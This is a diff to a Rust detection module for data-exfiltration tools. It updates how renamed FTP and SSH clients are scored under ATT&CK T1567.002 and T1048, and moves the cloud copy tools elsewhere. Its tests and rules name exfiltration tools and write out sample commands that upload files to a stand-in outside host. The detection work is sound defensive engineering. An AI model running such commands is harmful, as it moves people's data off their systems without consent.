@@ -2,7 +2,7 @@
 //!
 //! **Fires** on rclone (by its name, its author's name, or the shape of its command line when renamed: a verb, a remote
 //! with a colon, its flags), restic and MEGA's clients, FileZilla, WinSCP, PuTTY's pscp and psftp, Windows' ftp with a
-//! script, scp and sftp to an outside host, Azure's and Amazon's copy tools, DNS and cloud exfiltration kits.
+//! script, scp and sftp to an outside host, DNS and cloud exfiltration kits. Clouds' command lines and tunnels are in [`super::cloud_tool`].
 //!
 //! **ATT&CK** T1567.002 (to cloud storage), T1048 (FTP, SFTP, SCP).
 //!
@@ -151,7 +151,7 @@ fn is_remote(word: &str) -> bool {
 
 fn others(launch: &Launch) -> Option<Act> {
     let own = bare(if launch.original.is_empty() { &launch.program } else { &launch.original });
-    let own = if launch.is(&["pscp", "psftp", "ftp"]) || !KNOWN.contains(&own) { bare(&launch.program) } else { own };
+    let own = if KNOWN.contains(&own) { own } else { bare(&launch.program) };
     let target = launch.words.iter().find_map(|word| host_of(word)).unwrap_or_default();
     let drop = service_of(target).is_some();
     let (what, points) = match own {
@@ -165,11 +165,10 @@ fn others(launch: &Launch) -> Option<Act> {
         "pscp" | "scp" if is_upload(launch) => ("files are copied over SSH", 1),
         "psftp" | "sftp" if is_scripted(launch, &["-b", "-bc", "-batch"]) => ("SFTP runs a script", 1),
         "ftp" if is_scripted(launch, &["-s"]) => ("FTP runs a script", 2),
+        "ftp" if is_hidden(launch) => ("FTP runs under another name", 0),
+        "sftp" | "psftp" | "pscp" | "scp" if is_hidden(launch) => ("a client of SSH runs under another name", 0),
         "tftp" if launch.has("put") => ("TFTP sends a file", 2),
         "ssh" if launch.line.contains("| ") && launch.line.contains("tar ") => ("an archive is piped into SSH", 2),
-        "azcopy" if launch.has_any(&["copy", "cp", "sync"]) && launch.line.contains("blob.core.windows.net") => {
-            ("AzCopy sends to a storage account", 1)
-        }
         "s3browser-cli" => ("S3 Browser sends to a bucket", 1),
         "dnsexfiltrator" => ("DNSExfiltrator runs", 5),
         "croc" if launch.has("send") => ("croc sends files", 2),
@@ -179,11 +178,8 @@ fn others(launch: &Launch) -> Option<Act> {
         return None;
     }
     let act = Act::new(what, points)
-        .odd(
-            launch.is_renamed() && !launch.original.is_empty() && KNOWN.contains(&bare(&launch.original)),
-            2,
-            "under another name",
-        )
+        .odd(is_hidden(launch) && KNOWN.contains(&bare(&launch.original)), 2, "under another name")
+        .odd(points == 0, -1, "and nothing tells what for")
         .odd(launch.is_in_odd_place(), 1, "from an odd place")
         .odd(launch.words.iter().any(|word| is_share(word)), 1, "from a share")
         .odd(has_password(launch), 1, "with a password on the line")
@@ -205,6 +201,11 @@ const KNOWN: [&str; 12] = [
     "megacmdserver",
     "scp",
 ];
+
+/// Whether its author's name is no part of the name that it runs under (a portable edition has its version behind it).
+fn is_hidden(launch: &Launch) -> bool {
+    launch.is_renamed() && !launch.program.starts_with(bare(&launch.original))
+}
 
 fn is_scripted(launch: &Launch, options: &[&str]) -> bool {
     launch.words.iter().any(|word| {
@@ -249,6 +250,8 @@ mod tests {
     fn clients_weigh_by_what_they_are_told() {
         assert_eq!(points(r"C:\Windows\System32\ftp.exe", "ftp.exe", r"ftp -s:c:\x\up.txt 203.0.113.9"), 2);
         assert_eq!(points(r"C:\Windows\System32\ftp.exe", "ftp.exe", "ftp"), -1);
+        assert_eq!(points(r"C:\Users\a\Downloads\my-ftp.exe", "ftp.exe", "my-ftp.exe"), 1);
+        assert_eq!(points(r"C:\Users\a\WinSCP-6.3-Portable.exe", "winscp.exe", "WinSCP-6.3-Portable.exe"), 1);
         assert_eq!(points(r"C:\x\pscp.exe", "", r"pscp -pw x c:\a.zip bob@203.0.113.9:/tmp"), 2);
         assert_eq!(points(r"C:\x\pscp.exe", "", r"pscp bob@203.0.113.9:/tmp/a c:\a"), -1);
         assert_eq!(points(r"C:\Program Files\WinSCP\WinSCP.exe", "winscp.exe", "WinSCP.exe"), 1);
